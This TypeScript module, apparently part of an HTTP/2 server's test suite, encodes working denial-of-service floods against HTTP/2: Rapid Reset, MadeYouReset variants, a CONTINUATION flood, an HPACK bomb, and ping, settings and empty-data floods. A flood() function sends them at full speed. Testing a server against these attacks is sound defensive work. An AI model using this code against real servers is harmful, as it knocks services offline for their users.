import { once } from 'node:events'
import {
  END_HEADERS,
  END_STREAM,
  type Field,
  FRAME,
  frame,
  get,
  hpack,
  PREFACE,
  type RawHttp2,
  uint32,
} from './http2-frames.ts'

// The floods of the last years against HTTP/2, each as what it sends. Every one of them is much work
// or much memory for few bytes.

/** One flood, in as many rounds as are wanted. */
export interface Http2Attack {
  readonly name: string
  /** Frames of the beginning. */
  readonly first: (authority: string) => readonly Buffer[]
  /** Frames of one round. */
  readonly round: (authority: string, index: number) => readonly Buffer[]
}

const WHOLE = END_STREAM | END_HEADERS
const none = (): readonly Buffer[] => []
const stream = (index: number): number => 2 * index + 1

export const HTTP2_ATTACKS: readonly Http2Attack[] = [
  {
    name: 'requests that are reset at once (CVE-2023-44487)',
    first: none,
    round: (authority, index) => [
      frame(FRAME.headers, WHOLE, stream(index), get(authority)),
      frame(FRAME.reset, 0, stream(index), uint32(8)),
    ],
  },
  ...(
    [
      ['a window grown by nothing', () => [FRAME.windowUpdate, 0, uint32(0)]],
      ['a window grown too far', () => [FRAME.windowUpdate, 0, uint32(0x7fff_ffff)]],
      ['a body after the end', () => [FRAME.data, 0, Buffer.from('x')]],
      ['a stream that depends on itself', (id) => [FRAME.priority, 0, priorityOf(id)]],
    ] as const satisfies readonly (readonly [string, (id: number) => Provocation])[]
  ).map(
    ([how, provoke]): Http2Attack => ({
      name: `requests that we are made to reset, by ${how} (CVE-2025-8671)`,
      first: none,
      round: (authority, index) => {
        const [type, flags, payload] = provoke(stream(index))
        return [
          frame(FRAME.headers, WHOLE, stream(index), get(authority)),
          frame(type, flags, stream(index), payload),
        ]
      },
    }),
  ),
  {
    name: 'heads that cannot be read',
    first: none,
    round: (authority, index) => [
      frame(FRAME.headers, WHOLE, stream(index), get(authority, '/', [['Upper', 'case']])),
    ],
  },
  {
    name: 'a head without an end (CVE-2024-27983)',
    first: (authority) => [frame(FRAME.headers, END_STREAM, 1, get(authority))],
    round: () => [frame(FRAME.continuation, 0, 1, hpack([['x', 'y'.repeat(16_000)]]))],
  },
  {
    name: 'a head that grows when it is read (HPACK bomb)',
    first: none,
    round: (authority, index) => [
      frame(FRAME.headers, WHOLE, stream(index), Buffer.concat([get(authority), bomb()])),
    ],
  },
  {
    name: 'pings (CVE-2019-9512)',
    first: none,
    round: () => [frame(FRAME.ping, 0, 0, Buffer.alloc(8))],
  },
  {
    name: 'settings (CVE-2019-9515)',
    first: none,
    round: () => [frame(FRAME.settings, 0, 0)],
  },
  {
    name: 'empty pieces of a body (CVE-2019-9518)',
    first: (authority) => [frame(FRAME.headers, END_HEADERS, 1, post(authority))],
    round: () => [frame(FRAME.data, 0, 1)],
  },
]

type Provocation = readonly [type: number, flags: number, payload: Buffer]

function priorityOf(id: number): Buffer {
  return Buffer.concat([uint32(id), Buffer.from([0])])
}

function post(authority: string): Buffer {
  const fields: readonly Field[] = [
    [':method', 'POST'],
    [':scheme', 'https'],
    [':authority', authority],
    [':path', '/'],
  ]
  return hpack(fields)
}

/** A field of 3,000 bytes put into the table once, and named a thousand times in a byte each. */
function bomb(): Buffer {
  const literal = hpack([['x', 'y'.repeat(3000)]])
  literal.writeUInt8(0x40, 0)
  return Buffer.concat([literal, Buffer.alloc(1000, 0x80 | 62)])
}

/** Sends a flood as fast as it is taken, until it is over or the connection is. */
export async function flood(
  raw: RawHttp2,
  attack: Http2Attack,
  { authority, rounds }: { readonly authority: string; readonly rounds: number },
): Promise<void> {
  raw.send(PREFACE, ...attack.first(authority))
  for (let index = 1; index <= rounds && raw.socket.writable; ) {
    const frames: Buffer[] = []
    for (let size = 0; size < 65_536 && index <= rounds; index += 1) {
      const round = attack.round(authority, index)
      frames.push(...round)
      size += round.reduce((sum, { length }) => sum + length, 0)
    }
    if (!raw.socket.write(Buffer.concat(frames))) await drained(raw)
  }
}

async function drained({ socket, closed }: RawHttp2): Promise<void> {
  const stop = new AbortController()
  const drain = once(socket, 'drain', { signal: stop.signal }).catch(() => undefined)
  await Promise.race([drain, closed])
  stop.abort()
}
